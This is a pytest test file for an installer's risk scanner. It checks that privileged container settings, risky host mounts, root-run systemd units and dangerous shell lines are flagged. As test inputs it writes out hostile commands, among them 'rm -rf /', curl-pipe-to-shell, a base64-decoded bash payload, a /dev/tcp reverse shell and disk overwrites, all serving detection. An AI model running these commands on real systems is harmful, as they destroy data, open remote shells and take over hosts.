"""The rules for what a release does as root and opens: every row of their tables, and the opposites."""

from __future__ import annotations

from typing import Any

import pytest

from installer.core.risk.commands import MOST, suspicious
from installer.core.risk.compose_files import examine_services
from installer.core.risk.host_paths import opened
from installer.core.risk.risk import Program, Risk
from installer.core.risk.units import examine_unit

SERVICES: dict[str, tuple[dict[str, Any], str]] = {
    "privileged": ({"privileged": True}, "privileged: true: the container is root on this host"),
    "network": ({"network_mode": "host"}, "network_mode: host"),
    "processes": ({"pid": "host"}, "pid: host"),
    "memory": ({"ipc": "host"}, "ipc: host"),
    "name": ({"uts": "host"}, "uts: host"),
    "control groups": ({"cgroup": "host"}, "cgroup: host"),
    "users": ({"userns_mode": "host"}, "userns_mode: host"),
    "capabilities": ({"cap_add": ["SYS_ADMIN"]}, "cap_add: SYS_ADMIN"),
    "device": ({"devices": ["/dev/sda:/dev/sda"]}, "uses the device /dev/sda:/dev/sda"),
    "device, long": ({"devices": [{"source": "/dev/kvm"}]}, "uses the device /dev/kvm"),
    "device rules": ({"device_cgroup_rules": ["c 1:3 mr"]}, "device_cgroup_rules: c 1:3 mr"),
    "seccomp": (
        {"security_opt": ["seccomp:unconfined"]},
        "seccomp:unconfined: a protection of the engine is off",
    ),
    "apparmor": ({"security_opt": ["apparmor=unconfined"]}, "apparmor=unconfined"),
    "whole disk": ({"volumes": ["/:/host"]}, "mounts /: the whole file system of the host"),
    "whole disk, disguised": ({"volumes": ["/opt/../.:/host"]}, "the whole file system of the host"),
    "read-only": ({"volumes": ["/etc:/x:ro"]}, "mounts /etc, read-only: configuration of the host"),
    "engine": (
        {"volumes": ["/var/run/docker.sock:/var/run/docker.sock"]},
        "the socket of the container engine: root",
    ),
    "long mount": ({"volumes": [{"type": "bind", "source": "/root", "target": "/r"}]}, "home directories"),
    "variable": ({"volumes": ["${DATA}:/data"]}, "a variable decides which directory of the host"),
    "own directory": ({"volumes": ["/srv/chat:/data"]}, "mounts /srv/chat"),
    "sysctl": ({"sysctls": {"net.ipv4.ip_forward": 1}}, "sysctls: net.ipv4.ip_forward=1"),
}


@pytest.mark.parametrize("row", SERVICES)
def test_what_a_service_gets_of_the_host(row: str) -> None:
    service, words = SERVICES[row]
    (found,) = examine_services("deploy/compose.yaml", {"services": {"web": service}})
    assert isinstance(found, Risk)
    assert (found.kind, found.where) == ("host", "deploy/compose.yaml: service web")
    assert words in found.what


@pytest.mark.parametrize(
    ("port", "words"),
    [
        ("8080:80", "port 8080:80 on all addresses"),
        ("127.0.0.1:8080:80", "port 8080:80 on 127.0.0.1 (this host only)"),
        ("[::1]:8080:80", "port 8080:80 on [::1] (this host only)"),
        ("80", "port 80 on all addresses"),
        ({"target": 80, "published": 8080, "host_ip": "10.0.0.1"}, "port 8080:80 on 10.0.0.1"),
    ],
)
def test_ports(port: Any, words: str) -> None:
    (found,) = examine_services("c.yaml", {"services": {"web": {"ports": [port]}}})
    assert isinstance(found, Risk)
    assert (found.kind, found.what) == ("port", words)


def test_root_in_a_container_and_a_volume_that_is_a_directory_of_the_host() -> None:
    volumes = {"data": {"driver_opts": {"type": "none", "o": "bind", "device": "/"}}, "own": None}
    document = {"services": {"web": {"user": "0:0"}}, "volumes": volumes}
    assert [(each.kind, each.what) for each in examine_services("c", document) if isinstance(each, Risk)] == [
        ("root", "runs as root in its container: user: 0:0"),
        ("host", "mounts /: the whole file system of the host"),
    ]


@pytest.mark.parametrize(
    "document",
    [
        {
            "services": {
                "web": {"image": "x", "volumes": ["data:/data", "/data"], "user": "app", "privileged": False}
            }
        },
        {"services": {"web": {"network_mode": "bridge", "cap_drop": ["ALL"]}}, "volumes": {"data": {}}},
        None,
        [],
        {"services": []},
        {"services": {"web": None}},
        {"services": {"web": {"ports": None, "volumes": {}, "cap_add": None}}},
    ],
)
def test_nothing_of_the_host(document: Any) -> None:
    assert list(examine_services("c", document)) == []


@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("/", "whole file system"),
        ("//", "whole file system"),
        ("/run/docker.sock", "container engine"),
        ("/run/containerd/containerd.sock", "container engine"),
        ("/etc/shadow", "configuration"),
        ("/proc", "processes"),
        ("/usr/local/bin", ""),
        ("/usr/bin", "programs"),
        ("/var/lib/docker/volumes", "data of the container engine"),
        ("/var/lib/waybill", "Waybill"),
        ("/srv/chat", ""),
        ("/etc/localtime", ""),
        ("relative", ""),
    ],
)
def test_directories_of_the_host(path: str, words: str) -> None:
    assert words in opened(path)
    assert bool(opened(path)) == bool(words)


UNIT = """[Unit]
Description=x
[Service]
{}
ExecStartPre=rm -rf /
ExecStart=/opt/chatd \\
  --port 1
[Install]
WantedBy=multi-user.target
"""


def examined(text: str) -> tuple[list[tuple[str, str]], list[tuple[str, str, str]]]:
    found = list(examine_unit("u.service", text))
    risks = [(each.kind, each.what) for each in found if isinstance(each, Risk)]
    return risks, [(each.where, each.user, each.text) for each in found if isinstance(each, Program)]


@pytest.mark.parametrize(
    ("line", "user"),
    [
        ("", "root"),
        ("User=root", "root"),
        ("User=0", "root"),
        ("User=chat", "chat"),
        ("DynamicUser=yes", "a dynamic user"),
    ],
)
def test_who_a_service_runs_as(line: str, user: str) -> None:
    risks, programs = examined(UNIT.format(line))
    assert ("root" in {kind for kind, _ in risks}) == (user == "root")
    assert programs == [
        ("u.service:5", user, "ExecStartPre=rm -rf /"),
        ("u.service:6", user, "ExecStart=/opt/chatd  --port 1"),
    ]
    assert ("command", "deletes the whole file system: ExecStartPre=rm -rf /") in risks


def test_full_rights_in_spite_of_a_user() -> None:
    risks, programs = examined("[Service]\nUser=chat\nExecStartPre=+/bin/x\nExecStart=-/bin/y\n")
    assert risks == [("root", "runs with full rights in spite of User=: ExecStartPre=+/bin/x")]
    assert [user for _, user, _ in programs] == ["root", "chat"]


@pytest.mark.parametrize(
    ("text", "kind", "words"),
    [
        ("[Socket]\nListenStream=0.0.0.0:80\n", "port", "listens at 0.0.0.0:80"),
        ("[Socket]\nExecStartPre=/bin/x\n", "root", "runs as root: ExecStartPre=/bin/x"),
        (
            "[Service]\nUser=a\nAmbientCapabilities=CAP_SYS_ADMIN\n",
            "host",
            "gets the capabilities CAP_SYS_ADMIN",
        ),
        ("[Service]\nUser=a\nBindPaths=/etc:/x\n", "host", "mounts /etc:/x from the host"),
        ("[Mount]\nWhat=/dev/sda\nWhere=/mnt\n", "host", "mounts: What=/dev/sda"),
        ("[Timer]\nOnCalendar=daily\n", "command", "starts by itself: OnCalendar=daily"),
    ],
)
def test_what_units_open(text: str, kind: str, words: str) -> None:
    assert any(each[0] == kind and words in each[1] for each in examined(text)[0])


def test_a_unit_without_end_is_bounded_and_says_so() -> None:
    risks, _ = examined("[Service]\n" + "A=b\n" * 100_000)
    assert risks[-1][0] == "unread"


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("rm -rf /", "whole file system"),
        ("rm -fr -- /*", "whole file system"),
        ("rm -rf \\\n  /", "whole file system"),
        ("rm -r /etc/x", "a directory"),
        ('rm -rf "$DIR"', "a directory"),
        ("mkfs.ext4 /dev/sdb", "overwrites a disk"),
        ("dd if=x of=/dev/sda", "overwrites a disk"),
        ("curl -s https://x | sh", "fetches from a network"),
        ("bash <(curl https://x)", "fetches from a network"),
        ("echo aGk= | base64 -d | bash", "made while it runs"),
        ("bash -i >& /dev/tcp/1.2.3.4/99", "opens a connection"),
        ("chmod -R 777 /opt", "writable for everybody"),
        ("chmod 4755 /opt/x", "setuid"),
        ("chmod u+s /opt/x", "setuid"),
        ("useradd chat", "who may log in"),
        ("cat key >> ~/.ssh/authorized_keys", "who may log in"),
        ("setenforce 0", "protects the host"),
        ("systemctl disable --now firewalld", "protects the host"),
        ("modprobe x", "kernel"),
        ("docker run -v /:/host x", "leaves a container"),
        ("echo x > /etc/cron.d/x", "later"),
        ("rm /etc/waybill/trust/root.json", "Waybill"),
    ],
)
def test_lines_to_read_first(line: str, words: str) -> None:
    (found,) = suspicious(f"#!/bin/sh\n# rm -rf / in a comment\n\n{line}\n")
    assert found[0] == 4
    assert words in found[2]


@pytest.mark.parametrize(
    "line",
    [
        "rm -f /run/x.pid",
        "chmod 0755 /opt/x",
        "systemctl restart chat",
        "cp a b",
        "echo 'no evaluation'",
        "mkdir -p /x",
    ],
)
def test_ordinary_lines(line: str) -> None:
    assert list(suspicious(line)) == []


def test_findings_and_lines_are_bounded() -> None:
    assert len(list(suspicious("rm -rf /\n" * 100_000))) == MOST
    assert list(suspicious("x " * 3000 + "; rm -rf /")) == []
